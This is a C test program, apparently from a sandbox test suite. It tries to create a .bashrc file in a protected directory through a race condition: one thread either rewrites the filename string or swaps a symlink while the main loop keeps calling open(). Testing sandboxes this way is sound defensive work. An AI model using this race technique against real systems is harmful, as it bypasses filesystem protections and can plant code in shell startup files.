// Makes DIRECTORY/.bashrc while a second thread changes what the path says. Arguments: path|link, the target (unused), DIRECTORY.
// "path": the thread rewrites the string that is being opened. "link": it turns a link between a harmless directory and the target's.
#include "attack.h"
#include <pthread.h>
#include <stdatomic.h>
#include <time.h>

#define SECONDS 2

static volatile char name[16];
static atomic_bool done;

static void put(const char *text) {
  for (int at = 0; at < 8; at++) name[at] = text[at];
}

static void *flip_path(void *unused) {
  (void)unused;
  while (!done) {
    put(".bashrc");
    put("harmles");
  }
  return NULL;
}

static void *flip_link(void *unused) {
  (void)unused;
  while (!done) {
    symlink("aside", "one");
    rename("one", "turning");
    symlink(".", "one");
    rename("one", "turning");
  }
  return NULL;
}

int main(int count, char **words) {
  attempting(count, 3);
  pthread_t thread;
  const int by_path = strcmp(words[2], "path") == 0;
  if (chdir(words[3]) != 0) refused("chdir");
  put("harmles");
  mkdir("aside", 0777);
  pthread_create(&thread, NULL, by_path ? flip_path : flip_link, NULL);
  for (const time_t end = time(NULL) + SECONDS; time(NULL) < end && access(".bashrc", F_OK) != 0;) {
    const int fd = open(by_path ? (const char *)name : "turning/.bashrc", O_WRONLY | O_CREAT, 0666);
    if (fd >= 0) close(fd);
    unlink("aside/.bashrc");
  }
  done = 1;
  pthread_join(thread, NULL);
  return 0;
}
